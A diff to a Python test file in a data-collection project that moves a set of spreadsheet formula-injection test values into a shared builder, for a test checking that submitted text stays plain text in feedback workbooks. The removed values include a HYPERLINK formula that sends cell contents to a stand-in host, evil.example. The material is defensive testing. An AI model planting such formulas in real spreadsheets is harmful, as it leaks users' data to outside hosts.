@@ -14,7 +14,15 @@ from openpyxl.worksheet.worksheet import Worksheet
 from grassroots import feedback, intake, pipeline, review
 from grassroots import warehouse as wh
 from grassroots.config import Settings
-from tests.builders import DALAT, WANGAIZHAO, small_register, village, village_row, write_csv
+from tests.builders import (
+    DALAT,
+    HOSTILE_CELL_TEXT,
+    WANGAIZHAO,
+    small_register,
+    village,
+    village_row,
+    write_csv,
+)
 
 V1, V2, V3 = (f"{WANGAIZHAO[:9]}{n}" for n in (201, 202, 203))
 NAME = f"village_annual__{DALAT}__2020.csv"
@@ -305,15 +313,6 @@ def test_an_issue_no_steward_acted_on_says_so(county, tmp_path: Path) -> None:
 
 # --- text typed by submitters (and stewards) stays text ------------------------------------
 
-HOSTILE = {
-    "equals": '=HYPERLINK("http://evil.example/?"&A1,"核对")',
-    "plus": "+1+1",
-    "minus": "-1+1",
-    "at": "@SUM(1+1)",
-    "tab": "\t=1+1",
-    "carriage-return": "\r=1+1",
-    "error-code": "#N/A",
-}
 
 
 @pytest.fixture(scope="module")
@@ -361,7 +360,7 @@ def _plant(engine: sa.Engine, text: str) -> int:
     return submission_id
 
 
-@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+@pytest.mark.parametrize("text", HOSTILE_CELL_TEXT.values(), ids=HOSTILE_CELL_TEXT.keys())
 @pytest.mark.parametrize("warehouse", ["sqlite", "postgres"])
 def test_a_submitted_value_like_a_formula_is_text_in_the_feedback(
     request: pytest.FixtureRequest, tmp_path: Path, warehouse: str, text: str
